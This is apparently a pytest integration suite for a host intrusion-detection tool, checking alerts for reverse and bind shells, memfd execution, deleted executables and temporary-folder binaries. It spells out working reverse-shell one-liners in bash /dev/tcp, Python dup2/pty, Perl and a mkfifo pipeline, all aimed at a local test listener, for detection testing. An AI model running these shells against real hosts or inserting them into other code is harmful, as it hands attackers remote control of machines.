"""The process module's alerts on the real kernel: real shells on real sockets, real deleted files."""

from __future__ import annotations

import os
import shutil
import socket
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from garrison.workers.process.settings import Config
from tests.integration._process_support import Attacker, Processes, Running, running

pytestmark = pytest.mark.skipif(os.geteuid() != 0, reason="descriptors of other users' processes need root")

SOCKET = "process-reverse-shell-socket"
PIPE = "process-reverse-shell-pipe"
TERMINAL = "process-reverse-shell-terminal"

CONNECT = "import socket, os, sys, subprocess; s = socket.create_connection(('127.0.0.1', int(sys.argv[1])));"

# The shell lives as long as the session: with its input closed it would end before anybody has looked at it.
RELAY = f"""
{CONNECT}
import threading
p = subprocess.Popen(["/bin/sh"], stdin=subprocess.PIPE, stdout=subprocess.PIPE, bufsize=0)
def up():
    while data := p.stdout.read(4096): s.sendall(data)
threading.Thread(target=up, daemon=True).start()
while data := s.recv(4096): p.stdin.write(data)
"""

NETCAT = """
import os, select, socket, sys
s = socket.create_connection(("127.0.0.1", int(sys.argv[1])))
while True:
    for ready in select.select([0, s], [], [])[0]:
        data = os.read(0, 4096) if ready == 0 else s.recv(4096)
        if not data:
            sys.exit()
        s.sendall(data) if ready == 0 else os.write(1, data)
"""


@pytest.fixture
def processes() -> Iterator[Processes]:
    started = Processes()
    try:
        yield started
    finally:
        started.close()


@pytest.fixture
def attacker() -> Iterator[Attacker]:
    listening = Attacker()
    try:
        yield listening
    finally:
        listening.close()


@pytest.fixture
def module() -> Iterator[Running]:
    with running(QUIET) as started:
        yield started


QUIET = Config(repeat_seconds=1)


def answers(session: socket.socket) -> None:
    """The shell obeys: it is a real one."""
    session.sendall(b"echo gar$((40+2))rison\n")
    data = b""
    while b"gar42rison" not in data:
        part = session.recv(4096)
        assert part, data
        data += part


def check(alert: dict[str, Any], attacker: Attacker, session: socket.socket) -> None:
    assert alert["event"]["severity"] == 73
    assert alert["event"]["category"] == ["process", "intrusion_detection"]
    assert alert["threat"]["technique"]["id"] == ["T1059"]
    assert alert["threat"]["technique"]["subtechnique"]["id"] == ["T1059.004"]
    assert alert["threat"]["tactic"]["id"] == ["TA0002"]
    host, port = session.getpeername()[:2]
    assert (alert["source"]["ip"], alert["source"]["port"]) == (host, port)
    assert (alert["destination"]["ip"], alert["destination"]["port"]) == (host, attacker.port)
    assert alert["network"]["transport"] == "tcp"
    assert str(attacker.port) in alert["message"]


def test_bash_dev_tcp(module: Running, processes: Processes, attacker: Attacker) -> None:
    child = processes.start("bash", "-c", f"bash -i >& /dev/tcp/127.0.0.1/{attacker.port} 0>&1")
    session = attacker.accept()
    answers(session)
    alert = module.alert(SOCKET)
    check(alert, attacker, session)
    assert alert["network"]["direction"] == "outbound"
    assert alert["process"]["name"] == "bash"
    assert child.pid in (alert["process"]["pid"], alert["process"]["parent"]["pid"])


def test_bash_that_executes_a_shell_on_an_open_socket(
    module: Running, processes: Processes, attacker: Attacker
) -> None:
    processes.start("bash", "-c", f"exec 5<>/dev/tcp/127.0.0.1/{attacker.port}; exec bash -i <&5 >&5 2>&5")
    session = attacker.accept()
    answers(session)
    check(module.alert(SOCKET), attacker, session)


def test_a_shell_that_takes_the_socket_after_its_start(
    module: Running, processes: Processes, attacker: Attacker
) -> None:
    script = (
        f"sleep 0.5; exec 5<>/dev/tcp/127.0.0.1/{attacker.port}; exec 0<&5 1>&5; while read line; do eval $line; done"
    )
    processes.start("bash", "-c", script)
    session = attacker.accept()
    answers(session)
    alert = module.alert(SOCKET)
    check(alert, attacker, session)
    assert alert["event"]["provider"] == "recheck"


def test_a_subshell_that_was_forked_only(module: Running, processes: Processes, attacker: Attacker) -> None:
    script = f"( while read line; do eval $line; done ) <>/dev/tcp/127.0.0.1/{attacker.port} >&0; echo done"
    child = processes.start("bash", "-c", script)
    session = attacker.accept()
    answers(session)
    alert = module.alert(SOCKET)
    check(alert, attacker, session)
    assert alert["process"]["parent"]["pid"] == child.pid


def test_python_dup2_and_exec(module: Running, processes: Processes, attacker: Attacker) -> None:
    code = CONNECT + "[os.dup2(s.fileno(), fd) for fd in (0, 1, 2)]; os.execv('/bin/sh', ['sh', '-i'])"
    processes.start(sys.executable, "-c", code, str(attacker.port))
    session = attacker.accept()
    answers(session)
    alert = module.alert(SOCKET)
    check(alert, attacker, session)
    assert alert["process"]["command_line"] == "sh -i"


def test_a_shell_started_with_a_command_on_a_socket(module: Running, processes: Processes, attacker: Attacker) -> None:
    """As ``nc -e`` and ``socat EXEC:`` do it."""
    code = CONNECT + "subprocess.run(['/bin/sh', '-c', 'read x; eval $x; read y'], stdin=s, stdout=s, stderr=s)"
    processes.start(sys.executable, "-c", code, str(attacker.port))
    session = attacker.accept()
    answers(session)
    check(module.alert(SOCKET), attacker, session)


@pytest.mark.skipif(shutil.which("perl") is None, reason="there is no perl here")
def test_perl(module: Running, processes: Processes, attacker: Attacker) -> None:
    code = (
        "use Socket;socket(S,PF_INET,SOCK_STREAM,getprotobyname('tcp'));"
        "connect(S,sockaddr_in($ARGV[0],inet_aton('127.0.0.1')))||die;"
        "open(STDIN,'>&S');open(STDOUT,'>&S');open(STDERR,'>&S');exec('/bin/sh -i');"
    )
    processes.start("perl", "-e", code, str(attacker.port))
    session = attacker.accept()
    answers(session)
    check(module.alert(SOCKET), attacker, session)


def test_ipv6(module: Running, processes: Processes) -> None:
    listening = Attacker(socket.AF_INET6)
    try:
        code = (
            "import socket, os, sys; s = socket.create_connection(('::1', int(sys.argv[1])));"
            "[os.dup2(s.fileno(), fd) for fd in (0, 1, 2)]; os.execv('/bin/sh', ['sh'])"
        )
        processes.start(sys.executable, "-c", code, str(listening.port))
        session = listening.accept()
        answers(session)
        alert = module.alert(SOCKET)
        assert alert["destination"]["ip"] == "::1"
        assert alert["destination"]["port"] == listening.port
    finally:
        listening.close()


def test_a_bind_shell_is_told_from_a_reverse_shell(module: Running, processes: Processes) -> None:
    code = (
        "import socket, subprocess, sys; l = socket.create_server(('127.0.0.1', 0));"
        "print(l.getsockname()[1], flush=True); s, _ = l.accept();"
        "subprocess.run(['/bin/sh'], stdin=s, stdout=s, stderr=s)"
    )
    child = processes.start(sys.executable, "-c", code, stdout=subprocess.PIPE)
    assert child.stdout is not None
    port = int(child.stdout.readline())
    with socket.create_connection(("127.0.0.1", port)) as session:
        session.settimeout(30)
        answers(session)
        alert = module.alert(SOCKET)
        assert alert["network"]["direction"] == "inbound"
        assert alert["destination"]["port"] == port
        assert alert["source"]["port"] == session.getsockname()[1]


def test_mkfifo_and_a_pipeline(module: Running, processes: Processes, attacker: Attacker, tmp_path: Path) -> None:
    os.mkfifo(tmp_path / "f")
    (tmp_path / "nc.py").write_text(NETCAT)
    script = f"cat f | sh -i 2>&1 | {sys.executable} nc.py {attacker.port} > f"
    processes.start("sh", "-c", script, cwd=tmp_path)
    session = attacker.accept()
    answers(session)
    alert = module.alert(PIPE)
    check(alert, attacker, session)
    assert alert["process"]["command_line"] == "sh -i"
    assert "nc.py" in alert["garrison"]["holder"]["process"]["command_line"]


def test_python_with_pipes_to_a_shell(module: Running, processes: Processes, attacker: Attacker) -> None:
    child = processes.start(sys.executable, "-c", RELAY, str(attacker.port))
    session = attacker.accept()
    answers(session)
    alert = module.alert(PIPE)
    check(alert, attacker, session)
    assert alert["garrison"]["holder"]["process"]["pid"] == child.pid


def test_a_terminal_spawned_by_a_process_on_a_socket(module: Running, processes: Processes, attacker: Attacker) -> None:
    code = CONNECT + "[os.dup2(s.fileno(), fd) for fd in (0, 1, 2)]; import pty; pty.spawn('/bin/sh')"
    processes.start(sys.executable, "-c", code, str(attacker.port))
    session = attacker.accept()
    answers(session)
    check(module.alert(TERMINAL), attacker, session)


def test_a_reverse_shell_from_before_the_start_is_found(processes: Processes, attacker: Attacker) -> None:
    code = CONNECT + "[os.dup2(s.fileno(), fd) for fd in (0, 1, 2)]; os.execv('/bin/sh', ['sh', '-i'])"
    processes.start(sys.executable, "-c", code, str(attacker.port))
    session = attacker.accept()
    answers(session)
    with running() as module:
        alert = module.alert(SOCKET, destination__port=attacker.port)
        check(alert, attacker, session)
        assert alert["event"]["provider"] == "start"


def test_a_reverse_shell_is_found_by_polling(processes: Processes, attacker: Attacker) -> None:
    with running(Config(source="poll", poll_seconds=0.2)) as module:
        processes.start("bash", "-c", f"bash -i >& /dev/tcp/127.0.0.1/{attacker.port} 0>&1")
        session = attacker.accept()
        answers(session)
        check(module.alert(SOCKET, destination__port=attacker.port), attacker, session)


def test_loopback_can_be_left_out(processes: Processes, attacker: Attacker) -> None:
    with running(Config(loopback_shells=False)) as module:
        child = processes.start("bash", "-c", f"exec bash -i >& /dev/tcp/127.0.0.1/{attacker.port} 0>&1")
        answers(attacker.accept())
        module.event(event__action="exec", process__pid=child.pid, process__command_line="bash -i")
        rounds(module, 2)
        assert not module.all(rule__id=SOCKET)


def rounds(module: Running, count: int) -> None:
    """Let the module's own rechecks happen."""
    for _ in range(count):
        module.call(module.module._tracker.tick)
    module.settled()


def shell_alerts(module: Running, *pids: int) -> list[dict[str, Any]]:
    return [
        alert
        for rule in (SOCKET, PIPE, TERMINAL)
        for alert in module.all(event__kind="alert", rule__id=rule)
        if alert["process"]["pid"] in pids or alert["process"].get("parent", {}).get("pid") in pids
    ]


def test_ordinary_shells_raise_no_alert(module: Running, processes: Processes, tmp_path: Path) -> None:
    left, right = socket.socketpair()
    main, terminal = os.openpty()
    with left, right, open(main, "rb"), open(terminal, "rb"):
        pids = [
            processes.start("sh", "-c", "sleep 60; :").pid,
            processes.start("sh", stdin=subprocess.PIPE, stdout=subprocess.PIPE).pid,
            processes.start("sh", "-c", "echo x | cat | sh -c 'cat; sleep 60' | cat").pid,
            # As the journal is connected to a service's script.
            processes.start("sh", "-c", "sleep 60; :", stdout=right, stderr=right).pid,
            processes.start("sh", stdin=right, stdout=right).pid,
            processes.start("sh", "-i", stdin=terminal, stdout=terminal, stderr=terminal).pid,
        ]
        for pid in pids:
            module.event(event__action="exec", process__pid=pid)
        rounds(module, 3)
        assert not shell_alerts(module, *pids)


def test_a_listening_or_unconnected_socket_is_no_reverse_shell(module: Running, processes: Processes) -> None:
    with socket.create_server(("127.0.0.1", 0)) as listening, socket.socket() as idle:
        pids = [processes.start("sh", "-c", "sleep 60; :", stdin=one).pid for one in (listening, idle)]
        for pid in pids:
            module.event(event__action="exec", process__pid=pid)
        rounds(module, 2)
        assert not shell_alerts(module, *pids)


def test_a_download_piped_into_a_shell_is_no_reverse_shell(
    module: Running, processes: Processes, attacker: Attacker
) -> None:
    """As ``curl … | sh`` below a service: its output is a pipe, but not one that the downloader holds."""
    download = CONNECT + "[os.write(1, data) for data in iter(lambda: s.recv(100), b'')]"
    child = processes.start(
        "sh", "-c", f'{sys.executable} -c "$0" {attacker.port} | sh', download, stdout=subprocess.PIPE
    )
    session = attacker.accept()
    session.sendall(b"sleep 60\n")
    module.event(event__action="exec", process__command_line="sleep 60", process__parent__parent__pid=child.pid)
    rounds(module, 2)
    assert not shell_alerts(module, child.pid)


def test_a_script_below_a_networked_service_is_no_reverse_shell(
    module: Running, processes: Processes, attacker: Attacker, tmp_path: Path
) -> None:
    script = tmp_path / "job.sh"
    script.write_text("sleep 60; :\n")
    code = CONNECT + "subprocess.run(['sh', sys.argv[2]], stdin=subprocess.PIPE, stdout=subprocess.PIPE)"
    child = processes.start(sys.executable, "-c", code, str(attacker.port), str(script))
    attacker.accept()
    module.event(event__action="exec", process__name="sleep", process__parent__parent__pid=child.pid)
    rounds(module, 2)
    assert not shell_alerts(module, child.pid)


def test_a_trusted_holder_may_serve_a_shell_through_pipes(processes: Processes, attacker: Attacker) -> None:
    """As sshd does it for ``ssh host sh``."""
    python = os.path.realpath(sys.executable)
    with running(Config(trusted_holders=(python,))) as module:
        child = processes.start(sys.executable, "-c", RELAY, str(attacker.port))
        answers(attacker.accept())
        module.event(event__action="exec", process__command_line="/bin/sh", process__parent__pid=child.pid)
        rounds(module, 2)
        assert not shell_alerts(module, child.pid)


def test_a_memfd_executable(module: Running, processes: Processes) -> None:
    code = (
        "import os; fd = os.memfd_create('payload', 0); os.write(fd, open('/bin/sleep', 'rb').read());"
        "os.execve(f'/proc/self/fd/{fd}', ['kworker', '60'], {})"
    )
    child = processes.start(sys.executable, "-c", code)
    alert = module.alert("process-memfd-executable", process__pid=child.pid)
    assert alert["process"]["executable"] == "/memfd:payload"
    assert alert["file"]["path"] == "/memfd:payload"
    assert alert["threat"]["technique"]["id"] == ["T1620"]
    assert "subtechnique" not in alert["threat"]["technique"]


def test_a_runtime_that_clones_itself_is_allowed(module: Running, processes: Processes) -> None:
    code = (
        "import os; fd = os.memfd_create('runc_cloned:/proc/self/exe', 0);"
        "os.write(fd, open('/bin/sleep', 'rb').read()); os.execve(f'/proc/self/fd/{fd}', ['runc', '60'], {})"
    )
    child = processes.start(sys.executable, "-c", code)
    module.event(event__action="exec", process__pid=child.pid, process__command_line="runc 60")
    assert not module.all(event__kind="alert", process__pid=child.pid)


@pytest.fixture
def place() -> Iterator[Path]:
    """A folder that no rule is about."""
    folder = Path(f"/opt/garrison-test-{os.getpid()}")
    folder.mkdir()
    try:
        yield folder
    finally:
        shutil.rmtree(folder)


def copy(target: Path) -> str:
    shutil.copy(os.path.realpath("/bin/sleep"), target)
    return str(target)


def test_an_executable_that_is_deleted_after_its_start(module: Running, processes: Processes, place: Path) -> None:
    path = copy(place / "dropper")
    child = processes.start(path, "60")
    module.event(event__action="exec", process__pid=child.pid)
    os.unlink(path)
    alert = module.alert("process-deleted-executable", process__pid=child.pid)
    assert alert["process"]["executable"] == path
    assert alert["threat"]["technique"]["subtechnique"]["id"] == ["T1070.004"]


def test_an_executable_that_was_deleted_before_it_is_looked_at(
    module: Running, processes: Processes, place: Path
) -> None:
    path = copy(place / "dropper")
    with module.held():
        child = processes.start(path, "60")
        os.unlink(path)
    module.alert("process-deleted-executable", process__pid=child.pid)


def test_an_executable_that_was_replaced_is_an_upgrade(module: Running, processes: Processes, place: Path) -> None:
    path = copy(place / "daemon")
    with module.held():
        child = processes.start(path, "60")
        os.rename(copy(place / "new"), path)
    module.event(event__action="exec", process__pid=child.pid)
    rounds(module, 2)
    assert not module.all(event__kind="alert", process__pid=child.pid)


def test_a_file_whose_name_ends_in_deleted_is_not_deleted(module: Running, processes: Processes, place: Path) -> None:
    path = copy(place / "tool (deleted)")
    child = processes.start(path, "60")
    event = module.event(event__action="exec", process__pid=child.pid)
    assert event["process"]["executable"] == path
    assert not module.all(event__kind="alert", process__pid=child.pid)


@pytest.mark.parametrize("folder", ["/tmp", "/var/tmp", "/dev/shm"])
def test_execution_from_a_temporary_folder(module: Running, processes: Processes, folder: str) -> None:
    target = Path(folder) / f"garrison-test-{os.getpid()}"
    path = copy(target)
    try:
        child = processes.start(path, "60")
        alert = module.alert("process-temporary-executable", process__pid=child.pid)
        assert alert["file"]["path"] == path
        assert alert["event"]["severity"] == 47
        # The exec itself is reported all the same.
        module.event(event__action="exec", process__pid=child.pid)
    finally:
        target.unlink()


def test_execution_from_a_hidden_path(module: Running, processes: Processes, place: Path) -> None:
    (place / ".x").mkdir()
    (place / ".cargo").mkdir()
    first = processes.start(copy(place / ".x" / "tool"), "60")
    second = processes.start(copy(place / ".hidden"), "60")
    allowed = processes.start(copy(place / ".cargo" / "tool"), "60")
    for child in (first, second):
        module.alert("process-hidden-executable", process__pid=child.pid)
    module.event(event__action="exec", process__pid=allowed.pid)
    assert not module.all(event__kind="alert", process__pid=allowed.pid)


def test_a_script_in_a_temporary_folder(module: Running, processes: Processes) -> None:
    targets = [Path(f"/var/tmp/garrison-test-{os.getpid()}-{name}.sh") for name in ("named", "started")]
    try:
        for target in targets:
            target.write_text("#!/bin/sh\nsleep 60\n:\n")
            target.chmod(0o755)
        named = processes.start("sh", targets[0].name, cwd="/var/tmp")
        started = processes.start(str(targets[1]))
        for child, target in zip((named, started), targets, strict=True):
            alert = module.alert("process-temporary-script", process__pid=child.pid)
            assert alert["file"]["path"] == str(target)
    finally:
        for target in targets:
            target.unlink(missing_ok=True)


def test_repeats_are_counted_and_told_with_the_next_one(processes: Processes, place: Path) -> None:
    path = copy(place / ".tool")
    with running(Config(repeat_seconds=3)) as module:
        for _ in range(5):
            child = processes.start(path, "60")
            module.event(event__action="exec", process__pid=child.pid)
        assert len(module.all(rule__id="process-hidden-executable")) == 1

        def told() -> list[int]:
            # The host's other processes may have been suppressed too.
            summaries = module.all(event__action="alerts-suppressed")
            findings = [finding for summary in summaries for finding in summary["garrison"]["findings"]]
            return [finding["count"] for finding in findings if finding["process"]["executable"] == path]

        module.until(told, "summary")
        assert told() == [4]
